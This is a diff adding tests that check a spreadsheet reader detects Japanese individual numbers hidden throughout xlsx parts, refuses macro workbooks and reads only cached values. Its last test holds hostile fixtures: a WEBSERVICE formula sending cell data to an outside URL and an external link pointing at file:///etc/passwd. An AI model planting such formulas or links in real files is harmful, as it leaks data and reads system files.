@@ -7,6 +7,7 @@ import iconv from 'iconv-lite';
 import { openTable } from '../../../src/platform/tabular/table-file.js';
 import type { OpenTableOptions } from '../../../src/platform/tabular/table.types.js';
 import { importFixture } from '../../support/import-fixture.js';
+import { withParts } from '../../support/workbook-parts.js';
 
 let folder: string;
 beforeAll(async () => {
@@ -131,5 +132,107 @@ describe('a workbook', () => {
       expect(row).toBe(1);
       break;
     }
+  });
+});
+
+describe('a workbook with more in it than its table', () => {
+  const NUMBER = '123456789018';
+  const inRuns =
+    '<r><t>1234</t></r><r><rPr><b/><sz val="11"/></rPr><t>5678</t></r><r><t xml:space="preserve">9018</t></r>';
+  const table = () =>
+    xlsx({
+      name: '名簿',
+      rows: [
+        ['職員番号', '氏名'],
+        ['0001', '見本 花子'],
+      ],
+    });
+  const holds = async (parts: Record<string, string | Buffer>) => {
+    const path = join(folder, 'file');
+    await writeFile(path, withParts(await table(), parts));
+    return (await openTable({ name: 'file', path })).holdsIndividualNumber;
+  };
+
+  it.each([
+    [
+      'a sheet that is not read',
+      'xl/worksheets/sheet9.xml',
+      `<sheetData><row r="1"><c r="A1"><v>${NUMBER}</v></c></row></sheetData>`,
+    ],
+    [
+      'a comment',
+      'xl/comments1.xml',
+      `<comments><comment ref="A1"><text><t>個人番号 ${NUMBER}</t></text></comment></comments>`,
+    ],
+    [
+      'a comment, in runs of different looks',
+      'xl/comments1.xml',
+      `<comment ref="A1"><text>${inRuns}</text></comment>`,
+    ],
+    ['a threaded comment', 'xl/threadedComments/threadedComment1.xml', `<text>1234-5678-9018 です</text>`],
+    ['a string that no cell shows', 'xl/sharedStrings9.xml', `<sst><si>${inRuns}</si></sst>`],
+    [
+      'the header of the page',
+      'xl/worksheets/sheet9.xml',
+      `<headerFooter><oddHeader>&amp;C１２３４５６７８９０１８</oddHeader></headerFooter>`,
+    ],
+    [
+      'a text box',
+      'xl/drawings/drawing1.xml',
+      `<a:p><a:r><a:t>1234</a:t></a:r><a:r><a:rPr lang="ja-JP"/><a:t>56789018</a:t></a:r></a:p>`,
+    ],
+    [
+      'the alternative text of a picture',
+      'xl/drawings/drawing1.xml',
+      `<xdr:cNvPr id="2" name="図 1" descr="${NUMBER}"/>`,
+    ],
+    [
+      'a link',
+      'xl/worksheets/_rels/sheet1.xml.rels',
+      `<Relationship Id="r1" Target="https://example.jp/${NUMBER}"/>`,
+    ],
+    ['a property of the document', 'docProps/core.xml', `<dc:title>${NUMBER}</dc:title>`],
+    ['digits written as entities', 'xl/comments1.xml', `<t>&#49;23456789&#x30;18</t>`],
+    ['a name', 'xl/workbook9.xml', `<definedName name="kojin">"${NUMBER}"</definedName>`],
+    ['a part in UTF-16', 'xl/comments1.xml', Buffer.from(`\uFEFF<t>${NUMBER}</t>`, 'utf16le')],
+  ])('tells that an individual number is in %s', async (_place, name, xml) => {
+    expect(await holds({ [name]: xml })).toBe(true);
+  });
+
+  it('also where the part is so long that it is searched in pieces', async () => {
+    const row = (text: string) =>
+      `<row r="1" spans="1:3"><c r="A1" t="inlineStr"><is><t>${text}</t></is></c></row>`;
+    for (const before of [17_000, 17_003, 19_990]) {
+      const xml = `<sheetData>${row('見本花子').repeat(before)}${row(NUMBER)}${row('見本花子').repeat(20_000)}</sheetData>`;
+      expect(await holds({ 'xl/worksheets/sheet9.xml': xml })).toBe(true);
+    }
+  });
+
+  it('and does not take results of formulas, ids, dates or places for one', async () => {
+    const xml = `<sheetData><row r="123456789018"><c r="A1"><v>0.123456789018</v></c><c><v>1234567.89018</v></c><c><v>1.23456789018E+5</v></c></row></sheetData>
+      <xdr:colOff>1234567</xdr:colOff><xdr:rowOff>89018</xdr:rowOff><ext uri="{12345678-9018-0000-0000-000000000000}"/>
+      <dcterms:created>2022-10-31T09:00:00Z</dcterms:created>`;
+    expect(await holds({ 'xl/worksheets/sheet9.xml': xml })).toBe(false);
+  });
+
+  it('is refused with a macro', async () => {
+    const path = join(folder, 'file');
+    await writeFile(path, withParts(await table(), { 'xl/vbaProject.bin': 'Attribute VB_Name' }));
+    await expect(openTable({ name: 'file', path })).rejects.toMatchObject({ code: 'macro_xlsx' });
+  });
+
+  it('is read by the values that were kept, where formulas and links to other books stand', async () => {
+    const sheet = `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
+      <row r="1"><c r="A1" t="str"><f>WEBSERVICE("https://example.jp/?"&amp;A2)</f><v>職員番号</v></c>
+      <c r="B1" t="str"><f>'[1]Sheet1'!A1</f><v>氏名</v></c></row></sheetData></worksheet>`;
+    const { rows } = await readBytes(
+      withParts(await table(), {
+        'xl/worksheets/sheet1.xml': sheet,
+        'xl/externalLinks/externalLink1.xml': '<externalLink><externalBook/></externalLink>',
+        'xl/externalLinks/_rels/externalLink1.xml.rels':
+          '<Relationships><Relationship Id="rId1" Target="file:///etc/passwd" TargetMode="External"/></Relationships>',
+      }),
+    );
+    expect(rows).toEqual([[1, '職員番号', '氏名']]);
   });
 });
